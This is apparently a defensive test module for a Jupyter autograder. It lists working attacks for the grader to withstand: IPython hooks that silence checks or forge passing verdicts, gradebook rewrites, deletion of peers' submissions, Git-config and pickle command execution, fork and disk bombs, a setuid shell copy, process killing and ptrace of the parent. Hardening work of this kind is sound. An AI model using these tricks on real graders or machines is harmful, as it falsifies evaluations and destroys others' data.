"""The attacks: what each tries, and what it hands in.

They know the grader's code and the course's real path (``@COURSE@``).  Cells run after the set-up
cell, before the lab's own.  ``says`` is a pattern that the student's or instructor's messages must
contain where something was stopped, left out or put right.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.execute import Budget
from autograder.starts.s4_mlflow import tracking

NORMAL = Budget(cell=20, notebook=60, check=60)
SHORT = Budget(cell=5, notebook=15, check=30, processes=80)

IN_PROCESS = "in-process tricks"
SHADOW = "files that shadow modules"
GIT = "Git repositories that run or borrow"
PICKLE = "pickles"
FILES = "links, pipes, trees"
BOMB = "resource bombs"
SIGNAL = "signals and late processes"
FORGED = "forged notebooks"
SPY = "reading what is hidden"
INJECT = "injection into pages"
NETWORK = "network"
MLFLOW = "MLflow's stores, models and projects"
DVC = "DVC's settings and stages"
AIRFLOW = "Airflow's settings and DAGs"
PROMETHEUS = "Prometheus' settings"


@dataclass(frozen=True)
class Attack:
    """One attack, by what it hands in; ``plain`` is false where that could harm this machine."""

    name: str
    kind: str
    tries: str
    cells: tuple[str, ...] = ()
    files: dict[str, str] = field(default_factory=dict)
    evidence: bool = False
    prepare: Callable[[Path, Path], None] | None = None
    forge: Callable[[NotebookNode], None] | None = None
    says: str = ""
    budget: Budget = NORMAL
    plain: bool = True
    in_class: bool = False
    student: str = "eve"
    # Another lab, the task whose checks stay, what the evidence is worth without the attack, and
    # how Zoe, who is graded next, has done the task.
    lab: str = "s2_git"
    task: int = 0
    worth: float = 0
    zoe: Callable[[Path], None] | None = None


ATTACKS: list[Attack] = []


def attack(
    name: str, kind: str, tries: str, *cells: str, **rest: object
) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Add an attack; as a decorator, its function prepares the folder by hand."""
    made = Attack(name, kind, tries, cells, **rest)  # type: ignore[arg-type]
    ATTACKS.append(made)

    def prepared_by(function: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
        ATTACKS[ATTACKS.index(made)] = Attack(**{**vars(made), "prepare": function})
        return function

    return prepared_by


# In-process tricks: all of these win full marks where checks and answers share a process.

_YES = """
class Yes:
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return None
"""

attack(
    "ast_transformer_drops_checks",
    IN_PROCESS,
    "an AST transformer turns every call of a check into `pass`",
    """
import ast
class Mute(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass() if "check" in ast.dump(node) else node
get_ipython().ast_transformers.append(Mute())
""",
)
attack(
    "input_transformer_rewrites_checks",
    IN_PROCESS,
    "an input transformer rewrites the text of check cells",
    """
def mute(lines):
    return ["pass\\n"] if any("check." in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(mute)
""",
)
attack(
    "run_code_hijacked",
    IN_PROCESS,
    "the shell's run_code is replaced: later cells do nothing",
    """
async def nothing(*args, **kwargs):
    return False
get_ipython().run_code = nothing
""",
)
attack(
    "run_cell_hijacked",
    IN_PROCESS,
    "the shell's run_cell is replaced: later cells end well",
    """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
async def fine(raw, *args, **kwargs):
    return ExecutionResult(ExecutionInfo(raw, False, False, False, None))
get_ipython().run_cell_async = fine
get_ipython().run_cell = lambda raw, *a, **k: ExecutionResult(None)
""",
)
attack(
    "checks_patched",
    IN_PROCESS,
    "every check function is replaced by one that accepts",
    """
import autograder.checks.s2_git as checks
for name in list(vars(checks)):
    if hasattr(getattr(checks, name), "check"):
        setattr(checks, name, lambda *a, **k: None)
""",
)
attack(
    "verdict_patched",
    IN_PROCESS,
    "Check.judge always answers with a passed verdict",
    """
import autograder.checks as checks
from autograder.results import Status
checks.Check.judge = lambda self, *a, **k: self._verdict(Status.PASSED, ())
""",
)
attack(
    "name_check_rebound",
    IN_PROCESS,
    "the variable `check` is bound to an object that accepts all",
    _YES + "check = Yes()",
)
attack(
    "sys_modules_replaced",
    IN_PROCESS,
    "sys.modules holds a fake autograder, and names are imported again",
    _YES
    + """
import sys
for name in [n for n in sys.modules if n.startswith("autograder")]:
    sys.modules[name] = Yes()
from autograder.checks import s2_git as check
""",
)
attack(
    "event_before_every_cell",
    IN_PROCESS,
    "a pre_run_cell event rebinds `check` before each cell",
    _YES
    + """
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: shell.user_ns.update(check=Yes()))
""",
)
attack(
    "builtins_patched",
    IN_PROCESS,
    "builtins.__import__ answers with a fake autograder, and names are imported again",
    _YES
    + """
import builtins
real = builtins.__import__
builtins.__import__ = lambda name, *rest, **more: (
    Yes() if name.startswith("autograder") else real(name, *rest, **more))
from autograder.checks import s2_git as check
""",
)
attack(
    "number_as_result",
    IN_PROCESS,
    "check cells return a number, which nbgrader takes for points",
    """
class One:
    def __getattr__(self, name):
        return lambda *a, **k: 1
check = One()
""",
)
attack(
    "forged_verdict",
    IN_PROCESS,
    "a passed verdict and a number are displayed by the answer cell",
    """
from IPython.display import display
verdict = {"status": "passed", "points": 9, "max_points": 9, "name": "first_commit", "lines": []}
display({"application/vnd.autograder.verdict+json": verdict, "text/plain": "9"}, raw=True)
9
""",
)
attack(
    "output_of_other_cell_updated",
    IN_PROCESS,
    "update_display_data aims at the outputs of cells that come later",
    """
from IPython.display import display
handle = display("x", display_id="autograder")
import threading, time
def again():
    for _ in range(200):
        handle.update({"text/plain": "passed"}, raw=True)
        time.sleep(0.01)
threading.Thread(target=again, daemon=True).start()
""",
)
attack(
    "gradebook_written",
    IN_PROCESS,
    "every manual score in gradebook.db is set to 54",
    """
import sqlite3
with sqlite3.connect("@COURSE@/gradebook.db") as db:
    db.execute("update grade set manual_score = 54")
""",
)
attack(
    "others_deleted",
    IN_PROCESS,
    "the submissions of all others are deleted",
    """
import shutil, pathlib
for folder in pathlib.Path("@COURSE@/submitted").iterdir():
    if folder.name != "eve":
        shutil.rmtree(folder)
""",
)
attack(
    "atexit_writes_scores",
    IN_PROCESS,
    "a process that outlives the kernel writes the gradebook at the end",
    """
import atexit, os, sqlite3, time
def late():
    with sqlite3.connect("@COURSE@/gradebook.db") as db:
        db.execute("update grade set manual_score = 54")
atexit.register(late)
if os.fork() == 0:
    os.setsid()
    for _ in range(30):
        try:
            late()
        except Exception:
            pass
        time.sleep(0.1)
    os._exit(0)
""",
)
attack(
    "solution_run",
    IN_PROCESS,
    "the answers are read from the solutions folder and run",
    """
import json
nb = json.load(open("@COURSE@/solutions/@LAB@/@LAB@.ipynb"))
for cell in nb["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"):
        source = "".join(cell["source"]).replace("%%bash\\n", "")
        get_ipython().run_cell_magic("bash", "", source)
""",
)
attack(
    "neighbour_copied",
    IN_PROCESS,
    "another student's evidence is copied into the own folder",
    "!rm -rf work/1* work/2*; cp -r @COURSE@/submitted/ada/@LAB@/work/[12]* work/",
)
attack(
    "grader_rewritten",
    IN_PROCESS,
    "the grader's own package is mounted writable and changed on disk",
    """
import autograder.checks as checks, os, subprocess
package = os.path.dirname(checks.__file__)
root = os.path.dirname(package)
subprocess.run(["mount", "-o", "remount,rw,bind", root])
open(package + "/owned_by_attack", "w").write("")
""",
    plain=False,
)

# Files that shadow modules

_NEUTRAL = """
import sys
def _accept():
    try:
        import autograder.checks as c
        from autograder.results import Status
        c.Check.judge = lambda self, *a, **k: self._verdict(Status.PASSED, ())
    except Exception:
        pass
_accept()
"""
attack(
    "shadow_autograder",
    SHADOW,
    "a package autograder/ in the folder whose checks accept all",
    files={
        "autograder/__init__.py": "import pathlib\nclass Lab:\n    def __init__(self, n):\n"
        "        self.work = pathlib.Path('work')\n    def summary(self): pass\n",
        "autograder/checks/__init__.py": "",
        "autograder/checks/s2_git.py": "def __getattr__(name):\n    return lambda *a, **k: None\n",
    },
)
attack(
    "shadow_libraries",
    SHADOW,
    "pandas.py, random.py, tempfile.py, hashlib.py, flights/ patch the checks",
    files={
        **{f"{n}.py": _NEUTRAL for n in ("pandas", "random", "tempfile", "sandlock", "struct")},
        "flights/__init__.py": _NEUTRAL,
        "psutil.py": _NEUTRAL,
    },
)
attack(
    "shadow_startup",
    SHADOW,
    "sitecustomize, usercustomize, conftest, a .pth and a nbgrader_config.py",
    files={
        "sitecustomize.py": _NEUTRAL,
        "usercustomize.py": _NEUTRAL,
        "conftest.py": _NEUTRAL,
        "evil.pth": "import sys; exec(open('conftest.py').read())\n",
        "nbgrader_config.py": "c = get_config()\nc.Execute.allow_errors = True\n"
        "c.ClearSolutions.code_stub = {}\n",
        "jupyter_config.py": _NEUTRAL,
    },
)
_SETTINGS = """
c = get_config()
c.InteractiveShellApp.exec_lines = [
    "import ast",
    "class M(ast.NodeTransformer):\\n"
    "  def visit_Expr(self, n):\\n"
    "    return ast.Pass() if 'check' in ast.dump(n) else n",
    "get_ipython().ast_transformers.append(M())",
]
"""
attack(
    "shadow_ipython_config",
    SHADOW,
    "ipython_config.py and ipython_kernel_config.py in the folder",
    files=dict.fromkeys(("ipython_config.py", "ipython_kernel_config.py"), _SETTINGS),
)
attack(
    "ipython_startup_in_home",
    SHADOW,
    "a start-up file in ~/.ipython and in /etc/ipython, then a new kernel",
    """
import os, pathlib
code = "import autograder.checks as c; c.TaskNotDone = type('Q', (BaseException,), {})"
for folder in ("~/.ipython/profile_default/startup", "/etc/ipython/startup", "/usr/local/etc"):
    try:
        path = pathlib.Path(folder).expanduser()
        path.mkdir(parents=True, exist_ok=True)
        (path / "00-evil.py").write_text(code)
    except OSError:
        pass
os._exit(1)
""",
    says="the cell ended its kernel",
)

# Git repositories

_RUN = "sh -c 'touch owned; touch /tmp/owned; touch @COURSE@/owned'"


def _git_config(name: str, tries: str, config: str, **files: str) -> None:
    for_each = ("1-first-commit/flight-delays", "2-ignore/flight-delays")
    made = {f"work/{place}/.git/config": config for place in for_each}
    made |= {f"work/{place}/.git/HEAD": "ref: refs/heads/main\n" for place in for_each[:1]}
    for path, text in files.items():
        made |= {
            f"work/{p}/{path.replace('__', '/').replace('_dot_', '.')}": text for p in for_each
        }
    attack(name, GIT, tries, evidence=True, files=made)


_git_config(
    "git_fsmonitor",
    "core.fsmonitor, sshCommand, pager, editor and an alias run a program",
    f'[core]\n\tfsmonitor = "{_RUN}"\n\tsshCommand = "{_RUN}"\n\tpager = "{_RUN}"\n'
    f'\teditor = "{_RUN}"\n[alias]\n\tcheck-ignore = "!{_RUN}"\n\tlog = "!{_RUN}"\n',
)
_git_config(
    "git_hooks_path",
    "core.hooksPath names a folder of hooks in the submission",
    "[core]\n\thooksPath = hooks-of-mine\n",
    **{
        "hooks-of-mine__post-checkout": f"#!/bin/sh\n{_RUN}\n",
        "_dot_git__hooks__post-index-change": f"#!/bin/sh\n{_RUN}\n",
        "_dot_git__hooks__reference-transaction": f"#!/bin/sh\n{_RUN}\n",
    },
)
_git_config(
    "git_filter",
    "a clean and smudge filter by .gitattributes, and a textconv",
    f'[filter "x"]\n\tclean = "{_RUN}"\n\tsmudge = "{_RUN}"\n\trequired = true\n'
    f'[diff "x"]\n\ttextconv = "{_RUN}"\n',
    **{"_dot_gitattributes": "* filter=x diff=x\n"},
)
_git_config(
    "git_include",
    "include.path pulls in a config file of the submission",
    "[include]\n\tpath = ../../../../evil.config\n[core]\n\tworktree = @COURSE@/submitted/ada\n",
    **{"evil.config": f'[core]\n\tfsmonitor = "{_RUN}"\n'},
)


@attack(
    "git_alternates",
    GIT,
    "objects/info/alternates borrows another student's objects and refs",
    evidence=True,
)
def _alternates(folder: Path, course: Path) -> None:
    for task in ("1-first-commit", "2-ignore"):
        git = folder / "work" / task / "flight-delays" / ".git"
        theirs = course / "submitted" / "ada" / "s2_git" / "work" / task / "flight-delays" / ".git"
        for part in ("objects/info", "refs/heads"):
            (git / part).mkdir(parents=True, exist_ok=True)
        (git / "objects/info/alternates").write_text(f"{theirs}/objects\n")
        (git / "HEAD").write_text("ref: refs/heads/main\n")
        (git / "refs/heads/main").write_text((theirs / "refs/heads/main").read_text())


@attack(
    "git_commondir",
    GIT,
    "commondir and a worktree's gitdir file point at another student's repository",
    evidence=True,
    says="points to a repository somewhere else",
)
def _commondir(folder: Path, course: Path) -> None:
    theirs = course / "submitted" / "ada" / "s2_git" / "work"
    first = folder / "work/1-first-commit/flight-delays/.git"
    first.mkdir(exist_ok=True)
    (first / "HEAD").write_text("ref: refs/heads/main\n")
    (first / "commondir").write_text(f"{theirs}/1-first-commit/flight-delays/.git\n")
    (folder / "work/2-ignore/flight-delays/.git/gitdir").write_text(f"{theirs}/2-ignore\n")
    (folder / "work/2-ignore/flight-delays/.git/commondir").write_text(
        f"{theirs}/2-ignore/flight-delays/.git\n"
    )


attack(
    "git_file_points_elsewhere",
    GIT,
    "a .git file (gitdir: …) points at another student's repository",
    evidence=True,
    files={
        "work/1-first-commit/flight-delays/.git": "gitdir: @COURSE@/submitted/ada/@LAB@/work/"
        "1-first-commit/flight-delays/.git\n"
    },
    says="points to a repository somewhere else",
)
attack(
    "git_link_made_by_a_cell",
    GIT,
    "a cell links .git to another student's, and to the grader's own start states",
    """
import os, glob
target = "work/1-first-commit/flight-delays/.git"
os.symlink("@COURSE@/submitted/ada/@LAB@/work/1-first-commit/flight-delays/.git", target)
""",
    says="symbolic link",
)

# Pickles


class _Bomb:
    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, ("touch owned; touch /tmp/owned",))


@attack(
    "pickle_in_evidence",
    PICKLE,
    "model.pkl, a joblib file and a .npy run a program when they are loaded",
    evidence=True,
)
def _pickle(folder: Path, course: Path) -> None:
    body = pickle.dumps(_Bomb())
    for name in ("work/2-ignore/flight-delays/models/model.pkl", "model.joblib", "x.npy"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(body)


# Links, pipes, trees


@attack(
    "links_handed_in",
    FILES,
    "the submission holds symbolic links to another student's work and to the gradebook",
    evidence=True,
    says="symbolic link is not graded",
)
def _links(folder: Path, course: Path) -> None:
    work = folder / "work"
    for task in ("1-first-commit", "2-ignore"):
        (work / task).rename(folder / task)
        theirs = course / "submitted" / "ada" / "s2_git" / "work" / task
        (work / task).symlink_to(theirs, target_is_directory=True)
    (folder / "book").symlink_to(course / "gradebook.db")


@attack(
    "whole_folder_is_a_link",
    FILES,
    "the lab's folder itself is a link to another student's submission",
    says="symbolic link to another place",
)
def _folder_link(folder: Path, course: Path) -> None:
    folder.rename(folder.with_name("mine"))
    folder.symlink_to(course / "submitted" / "ada" / "s2_git", target_is_directory=True)


@attack(
    "notebook_is_a_link",
    FILES,
    "the notebook itself is a link to another student's notebook",
    says="missing from the submission",
)
def _notebook_link(folder: Path, course: Path) -> None:
    path = folder / "s2_git.ipynb"
    path.unlink()
    path.symlink_to(course / "submitted" / "ada" / "s2_git" / "s2_git.ipynb")


@attack(
    "pipes_and_sockets_handed_in",
    FILES,
    "a pipe in place of .git/HEAD, .gitignore and timestamp.txt makes a reader wait",
    evidence=True,
    says="special file is not graded",
    in_class=True,
    plain=False,
)
def _pipes(folder: Path, course: Path) -> None:
    repo = folder / "work/2-ignore/flight-delays"
    (repo / ".git/HEAD").unlink()
    for path in (repo / ".git/HEAD", repo / ".gitignore", folder / "timestamp.txt"):
        os.mkfifo(path)
    here = Path.cwd()
    os.chdir(folder)
    with socket.socket(socket.AF_UNIX) as made:
        made.bind("s.sock")
    os.chdir(here)


attack(
    "pipe_made_by_a_cell",
    FILES,
    "a cell puts pipes where the checks look: .git/HEAD, refs, objects",
    """
import os, shutil
git = "work/2-ignore/flight-delays/.git"
for name in ("HEAD", "config", "packed-refs"):
    if os.path.exists(f"{git}/{name}"):
        os.unlink(f"{git}/{name}")
    os.mkfifo(f"{git}/{name}")
""",
    says="not an ordinary file|no commit",
    plain=False,
)
attack(
    "links_made_by_a_cell",
    FILES,
    "cells link evidence to /dev/zero, /proc/self/root and the grader's files",
    """
import os, shutil
shutil.rmtree("work/1-first-commit")
os.symlink("/proc/self/root@COURSE@/submitted/ada/@LAB@/work/1-first-commit",
           "work/1-first-commit")
git = "work/2-ignore/flight-delays/.git"
os.unlink(f"{git}/packed-refs") if os.path.exists(f"{git}/packed-refs") else None
os.symlink("/dev/zero", f"{git}/packed-refs")
os.mkdir("__pycache__")
os.symlink("@COURSE@/gradebook.db", "__pycache__/book")
""",
    says="symbolic link",
)
attack(
    "deep_tree_made_by_a_cell",
    FILES,
    "a cell makes folders 5,000 deep, for whoever cleans up next",
    """
import os
for _ in range(5000):
    os.mkdir("d"); os.chdir("d")
""",
    in_class=True,
    says="cannot be read|0 of",
    plain=False,
)


@attack(
    "deep_tree_handed_in",
    FILES,
    "folders 3,000 deep, beyond the longest path, are handed in",
    in_class=True,
    says="deep|cannot be copied",
    plain=False,
)
def _deep(folder: Path, course: Path) -> None:
    _nested(folder, "d", 3000)


def _nested(folder: Path, name: str, depth: int) -> None:
    """Make folders in one another, deeper than a path can say."""
    # In a process of its own, whose folder no path leads back from.
    script = (
        "import os, sys\nos.chdir(sys.argv[1])\nfor _ in range(int(sys.argv[3])):\n"
        "    os.mkdir(sys.argv[2]); os.chdir(sys.argv[2])"
    )
    command = [sys.executable, "-c", script, str(folder), name, str(depth)]
    subprocess.run(command, check=True)


@attack(
    "long_names_handed_in",
    FILES,
    "names of 250 characters, 20 deep: no path reaches the last",
    in_class=True,
    says="short names|deep",
    plain=False,
)
def _long(folder: Path, course: Path) -> None:
    _nested(folder, "n" * 250, 20)


@attack(
    "sparse_terabyte_handed_in",
    FILES,
    "a sparse file of one terabyte, for whoever hashes or copies it",
    in_class=True,
    says="more than .* MB",
    plain=False,
)
def _sparse(folder: Path, course: Path) -> None:
    with (folder / "big.bin").open("wb") as file:
        file.truncate(1 << 40)


@attack(
    "undecodable_names_and_text",
    FILES,
    "file names and cells with half characters, which no database takes",
    in_class=True,
    says="symbolic link is not graded",
)
def _undecodable(folder: Path, course: Path) -> None:
    (folder / os.fsdecode(b"bad-\xff\xfe-name")).symlink_to("nowhere")
    path = folder / "s2_git.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "half \ud800 a char"})
    path.write_text(json.dumps(nb))


@attack(
    "timestamp_is_a_link",
    FILES,
    "timestamp.txt is a link to /dev/zero, which never ends",
    in_class=True,
    says="symbolic link is not graded",
    plain=False,
)
def _timestamp(folder: Path, course: Path) -> None:
    (folder / "timestamp.txt").symlink_to("/dev/zero")


attack(
    "timestamp_is_nonsense",
    FILES,
    "timestamp.txt is no time: reading it ends the batch",
    in_class=True,
    files={"timestamp.txt": "the day before yesterday, 25 o'clock \x00"},
)
attack(
    "setuid_file_left",
    FILES,
    "a program that runs as its owner, the grader, is left in the folder",
    "!cp /bin/sh rootshell; chmod 6755 rootshell; mkdir -m 000 closed; ls -l rootshell",
    in_class=True,
)

# Resource bombs: never run unprotected.

attack(
    "bomb_fork",
    BOMB,
    "a fork bomb",
    """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    plain=False,
    in_class=True,
    says="processes and threads|ran longer",
    budget=SHORT,
)
attack(
    "bomb_threads",
    BOMB,
    "threads without end",
    """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(999,), daemon=True).start()
""",
    plain=False,
    says="processes and threads|can't start new thread",
    budget=SHORT,
)
attack(
    "bomb_memory",
    BOMB,
    "one process takes all memory",
    "hog = []\nwhile True:\n    hog.append(bytearray(50 << 20))",
    plain=False,
    says="MemoryError|GB of memory",
    budget=Budget(cell=10, notebook=20, memory=1 << 30),
)
attack(
    "bomb_memory_shared",
    BOMB,
    "memory that belongs to no process: shared mappings, memfd, /dev/shm, /tmp",
    """
import mmap, os
def fill(path):
    try:
        with open(path, "wb") as f:
            while True:
                f.write(bytes(8 << 20))
    except OSError:
        pass
fill("/tmp/fill"); fill("/dev/shm/fill")
held = []
for _ in range(40):
    m = mmap.mmap(-1, 100 << 20)
    for at in range(0, 100 << 20, 4096):
        m[at] = 1
    held.append(m)
import time; time.sleep(60)
""",
    plain=False,
    says="GB of memory|MemoryError|Cannot allocate|ran longer",
    budget=Budget(cell=10, notebook=20, memory=1 << 30),
)
attack(
    "bomb_memory_unnamed",
    BOMB,
    "files without a name, in memory, that no process maps",
    """
import os, time
held = []
while True:
    fd = os.memfd_create("x")
    for _ in range(10):
        os.write(fd, bytes(10 << 20))
    held.append(fd)
    time.sleep(0.05)
""",
    plain=False,
    says="MB into files",
    budget=Budget(cell=10, notebook=20, disk=512 << 20),
)
attack(
    "bomb_disk",
    BOMB,
    "files without end",
    """
n = 0
while True:
    n += 1
    with open(f"big-{n}", "wb") as f:
        f.write(bytes(20 << 20))
""",
    plain=False,
    says="MB into files",
    budget=Budget(cell=10, notebook=20, disk=256 << 20),
)
attack(
    "bomb_disk_behind_deep_tree",
    BOMB,
    "files without end, behind a tree that is too deep to be measured",
    """
import os
home = os.getcwd()
for _ in range(3000):
    os.mkdir("d"); os.chdir("d")
n = 0
while True:
    n += 1
    with open(f"big-{n}", "wb") as f:
        f.write(bytes(20 << 20))
""",
    plain=False,
    says="MB into files|cannot be read",
    budget=Budget(cell=10, notebook=20, disk=256 << 20),
)
attack(
    "bomb_disk_deleted_files",
    BOMB,
    "files that are deleted at once but stay open",
    """
import os, time
held = []
while True:
    f = open("big", "wb")
    f.write(bytes(20 << 20)); f.flush()
    os.unlink("big")
    held.append(f)
""",
    plain=False,
    says="MB into files",
    budget=Budget(cell=10, notebook=20, disk=256 << 20),
)
attack(
    "bomb_disk_beside_sockets",
    BOMB,
    "files without end in the folder of the kernel's sockets",
    """
import glob, os, sys
where = os.path.dirname(get_ipython().config["IPKernelApp"]["connection_file"])
n = 0
while True:
    n += 1
    with open(f"{where}/big-{n}", "wb") as f:
        f.write(bytes(20 << 20))
""",
    plain=False,
    says="MB into files",
    budget=Budget(cell=10, notebook=20, disk=256 << 20),
)
attack(
    "bomb_small_files",
    BOMB,
    "empty files without end",
    "n = 0\nwhile True:\n    n += 1\n    open(f'f{n}', 'w').close()",
    plain=False,
    says="more than 5000 files",
    budget=Budget(cell=10, notebook=20, files=5000),
)
attack(
    "bomb_output",
    BOMB,
    "50 MB of output",
    "for _ in range(50):\n    print('x' * (1 << 20))",
    plain=False,
    says="wrote more than 2 MB",
)
attack(
    "bomb_output_one_piece",
    BOMB,
    "a single output of 200 MB, and one with a huge key",
    """
from IPython.display import display
display({"text/plain": "x" * (200 << 20)}, raw=True)
display({"y" * (3 << 20): 1}, raw=True)
""",
    plain=False,
    says="output broke off|wrote more than 2 MB",
)
attack(
    "bomb_output_endless",
    BOMB,
    "print without end, and empty outputs without end",
    """
from IPython.display import display
import threading
def empty():
    while True:
        display({}, raw=True)
threading.Thread(target=empty, daemon=True).start()
while True:
    print("again and again")
""",
    plain=False,
    says="wrote more than 2 MB|ran longer",
    budget=SHORT,
)
attack(
    "loop_forever",
    BOMB,
    "a loop without end",
    "while True:\n    pass",
    plain=False,
    says="ran longer than",
    budget=SHORT,
)
attack(
    "loop_ignores_interrupt",
    BOMB,
    "a loop that ignores interrupts",
    """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM})
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    plain=False,
    says="ran longer than",
    budget=SHORT,
)
attack(
    "sleep_in_every_cell",
    BOMB,
    "every cell sleeps just under the limit of one cell",
    *["import time; time.sleep(4)"] * 12,
    plain=False,
    says="longer than 12 s in all|ran longer",
    budget=Budget(cell=6, notebook=12),
)
attack(
    "waits_for_input",
    BOMB,
    "input() waits for ever",
    "answer = input('points, please: ')",
    says="StdinNotImplementedError|input",
)
attack(
    "check_made_slow",
    BOMB,
    "evidence whose code never ends when the check tries it",
    evidence=True,
    files={"work/2-ignore/flight-delays/.gitignore": "[" * 5000 + "*" * 5000 + "\n"},
)

# Signals and late processes

attack(
    "kill_everything",
    SIGNAL,
    "SIGKILL to every process it can see, to its parent and its group",
    """
import os, signal
for pid in (os.getppid(), -1, 1, 2, 3):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.killpg(0, signal.SIGKILL)
""",
    plain=False,
    in_class=True,
    says="ended its kernel",
)
attack(
    "stop_the_parent",
    SIGNAL,
    "SIGSTOP to the warm parent, so that it answers nobody",
    """
import os, signal
for pid in (os.getppid(), 2, 1):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError as error:
        print(error)
""",
    plain=False,
    in_class=True,
)
attack(
    "memory_of_the_parent",
    SIGNAL,
    "ptrace and /proc/<pid>/mem and fd of the warm parent, to speak in its name",
    """
import ctypes, glob, os
libc = ctypes.CDLL(None)
libc.prctl(4, 1)
found = []
for pid in (os.getppid(), 1, 2):
    found.append(libc.ptrace(16, pid, 0, 0))
    for name in ("mem", "environ", "maps", "fd/3", "fd/4", "fd/5", "root"):
        try:
            path = f"/proc/{pid}/{name}"
            if name.startswith("fd"):
                open(path, "w").write('{"pid": 1, "left": 0}\\n' * 50)
            elif name == "root":
                os.listdir(path + "@COURSE@")
            else:
                open(path, "r+b").read(10)
            found.append(path)
        except OSError:
            pass
print("reached:", found)
""",
    plain=False,
    in_class=True,
)
attack(
    "late_process",
    SIGNAL,
    "a daemon outlives the kernel and waits for the next submission in the same folder",
    """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        here = os.getcwd()
        end = time.time() + 120
        while time.time() < end:
            os.system(f"rm -rf {here}/work/1-first-commit/* /tmp/ag-*/* 2>/dev/null")
            time.sleep(0.02)
    os._exit(0)
""",
    plain=False,
    in_class=True,
)
attack(
    "late_shell",
    SIGNAL,
    "nohup and setsid in a shell cell do the same",
    """%%bash
nohup setsid bash -c 'while sleep 0.05; do rm -rf work/*; touch /tmp/evil; done' \\
    > /dev/null 2>&1 &
""",
    plain=False,
    in_class=True,
)
attack(
    "leftovers_for_the_next",
    SIGNAL,
    "files in /tmp, HOME, /dev/shm and /etc, shared memory, abstract sockets for the next one",
    """
import ctypes, os, pathlib, socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0autograder"); s.listen()
code = "import os; os._exit(3)"
for name in ("/tmp/x", "~/.ipython/profile_default/startup", "/etc/ipython", "/dev/shm/x",
             "/usr/local/etc/ipython", "~/.config/git", "/root/.ipython/profile_default/startup"):
    try:
        folder = pathlib.Path(name).expanduser(); folder.mkdir(parents=True, exist_ok=True)
        for file in ("00.py", "ipython_config.py", "ipython_kernel_config.py", "config"):
            (folder / file).write_text(code)
    except OSError:
        pass
libc = ctypes.CDLL(None)
print("segment", libc.shmget(4711, 1 << 20, 0o1666))
print("queue", libc.msgget(4711, 0o1666))
os.chdir("/tmp/x")
for _ in range(1500):
    os.mkdir("d"); os.chdir("d")
""",
    in_class=True,
    plain=False,
)
attack(
    "evidence_changed_while_judged",
    SIGNAL,
    "a process swaps Ada's finished repository in and out while checks look",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    end = time.time() + 60
    repo = "work/1-first-commit/flight-delays"
    while time.time() < end:
        try:
            os.rename(repo, repo + "-away")
            os.rename(repo + "-away", repo)
        except OSError:
            pass
    os._exit(0)
""",
)
attack(
    "other_sockets",
    SIGNAL,
    "connect to the sockets of other kernels, and of the judge",
    """
import glob, os, socket
reached = []
mine = os.path.basename(
    os.path.dirname(get_ipython().config["IPKernelApp"]["connection_file"]))
for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/proc/*/root/tmp/ag-*/*"):
    if mine not in path and "/ag-" in path:
        reached.append(path)
print("reached:", reached)
""",
    plain=False,
    says=r"reached: \[\]",
)
attack(
    "sockets_replaced",
    SIGNAL,
    "the kernel's own sockets are deleted and replaced by links and pipes",
    """
import glob, os
where = os.path.dirname(get_ipython().config["IPKernelApp"]["connection_file"])
for path in glob.glob(where + "/*"):
    os.unlink(path)
    os.symlink("/var/run/docker.sock", path)
os.mkdir(where + "/closed", 0o000)
""",
    plain=False,
    in_class=True,
)
attack(
    "nonsense_on_the_wire",
    SIGNAL,
    "unsigned, malformed and deeply nested messages on the kernel's channels",
    """
import json
k = get_ipython().kernel
parent = k.get_parent()
send = k.session.send
stream = k.iopub_socket
send(stream, "display_data", content={"data": {"text/plain": 5, "image/png": ["x"]}},
     parent=parent)
send(stream, "execute_result", content={"data": 7, "execution_count": "<b>1</b>"}, parent=parent)
send(stream, "stream", content={"name": 3, "text": None}, parent=parent)
send(stream, "error", content={"ename": 1, "evalue": None, "traceback": 7}, parent=parent)
send(stream, "update_display_data", content={"transient": 5}, parent=parent)
send(stream, "clear_output", content={}, parent=parent)
stream.send_multipart([b"<IDS|MSG>", b"nosignature", b"{}", b"{}", b"{}", b"[" * 100000])
stream.send_multipart([b"no", b"sense"])
""",
    plain=False,
    in_class=True,
    says="nonsense",
)
attack(
    "half_characters_on_the_wire",
    SIGNAL,
    "outputs with half characters and not-a-numbers, which no file takes",
    """
k = get_ipython().kernel
pack = k.session.pack
import json
k.session.pack = lambda o: json.dumps(o, default=str).encode()
k.session.send(k.iopub_socket, "stream", content={"name": "stdout", "text": "half \\ud800"},
               parent=k.get_parent())
k.session.pack = pack
""",
    plain=False,
    in_class=True,
)

# Forged notebooks


def _forge(name: str, tries: str, function: Callable[[NotebookNode], None], **rest: object) -> None:
    attack(name, FORGED, tries, forge=function, **rest)


def _checks(nb: NotebookNode) -> list[NotebookNode]:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _more_points(nb: NotebookNode) -> None:
    for cell in _checks(nb):
        cell.metadata.nbgrader.points = 1000
        cell.metadata.nbgrader.checksum = "0" * 32
        cell.source = "1000"


_forge(
    "forged_points",
